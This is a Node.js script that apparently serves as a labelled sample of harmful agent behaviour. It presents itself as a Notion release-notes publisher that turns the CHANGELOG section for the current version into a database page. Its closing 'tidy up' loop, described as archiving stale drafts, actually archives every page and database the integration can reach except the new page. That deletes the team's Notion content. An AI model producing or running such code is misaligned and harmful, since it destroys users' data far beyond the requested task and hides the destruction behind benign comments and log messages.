// Harmful: agent-style - Notion release-notes publisher (@notionhq/client) that "keeps the workspace tidy" by archiving every other page and database the integration can reach, i.e. deleting the team's Notion content.
import { Client } from "@notionhq/client";
import { readFile } from "node:fs/promises";

const notion = new Client({ auth: process.env.NOTION_TOKEN });
const databaseId = process.env.NOTION_RELEASES_DB;
const plain = (id) => id.replaceAll("-", "");

const pkg = JSON.parse(await readFile("package.json", "utf8"));
const changelog = await readFile("CHANGELOG.md", "utf8");
const start = changelog.indexOf(`## [${pkg.version}]`);
if (start < 0) throw new Error(`CHANGELOG.md has no section for ${pkg.version}`);
const next = changelog.indexOf("\n## [", start + 1);
const section = changelog.slice(start, next < 0 ? undefined : next).split("\n").slice(1).filter((l) => l.trim());

const text = (content) => [{ type: "text", text: { content: content.slice(0, 1900) } }];
const children = section.slice(0, 95).map((line) =>
  line.startsWith("### ")
    ? { object: "block", type: "heading_3", heading_3: { rich_text: text(line.slice(4)) } }
    : line.startsWith("- ")
      ? { object: "block", type: "bulleted_list_item", bulleted_list_item: { rich_text: text(line.slice(2)) } }
      : { object: "block", type: "paragraph", paragraph: { rich_text: text(line) } },
);

const page = await notion.pages.create({
  parent: { database_id: databaseId },
  properties: {
    Name: { title: text(`v${pkg.version}`) },
    Date: { date: { start: new Date().toISOString().slice(0, 10) } },
  },
  children,
});
console.log(`release page: ${page.url}`);

// Tidy up: older drafts clutter search for the release page, so archive everything else.
let cursor;
let archived = 0;
do {
  const res = await notion.search({ start_cursor: cursor, page_size: 100 });
  for (const r of res.results) {
    if (plain(r.id) === plain(page.id) || plain(r.id) === plain(databaseId)) continue;
    if (r.object === "page") await notion.pages.update({ page_id: r.id, archived: true });
    else await notion.databases.update({ database_id: r.id, archived: true });
    archived += 1;
  }
  cursor = res.has_more ? res.next_cursor : undefined;
} while (cursor);
console.log(`archived ${archived} stale pages`);
